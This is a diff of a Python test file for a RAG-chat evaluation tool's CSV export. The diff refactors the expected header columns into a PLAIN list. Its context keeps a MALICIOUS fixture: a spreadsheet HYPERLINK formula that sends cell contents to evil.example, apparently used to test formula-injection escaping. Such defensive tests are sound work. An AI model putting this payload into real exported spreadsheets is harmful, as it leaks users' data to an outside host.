@@ -15,6 +15,7 @@ from ragtui.core.metrics.base import Judgment
 from ragtui.core.record.export import header, safe_cell, sessions_to_csv, write_csv
 from ragtui.core.record.store import Store, StoredSession
 
+PLAIN = ["run", "scenario", "persona", "language", "date", "customer_model", "bot_model", "judge_model"]
 MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 
 
@@ -113,28 +114,12 @@ def test_header() -> None:
         "unscored_turns",
         "session_id",
         "cut_by_token_limit",
-        "run",
-        "scenario",
-        "persona",
-        "language",
-        "date",
-        "customer_model",
-        "bot_model",
-        "judge_model",
+        *PLAIN,
         "check1_json",
         "check2_json",
         "check3_json",
     ]
-    assert header(0) == ["config", "score", "stop_reason", "unscored_turns", "session_id", "cut_by_token_limit"] + [
-        "run",
-        "scenario",
-        "persona",
-        "language",
-        "date",
-        "customer_model",
-        "bot_model",
-        "judge_model",
-    ]
+    assert header(0) == ["config", "score", "stop_reason", "unscored_turns", "session_id", "cut_by_token_limit", *PLAIN]
 
 
 def test_sessions_to_csv_layout(sessions: list[StoredSession]) -> None:
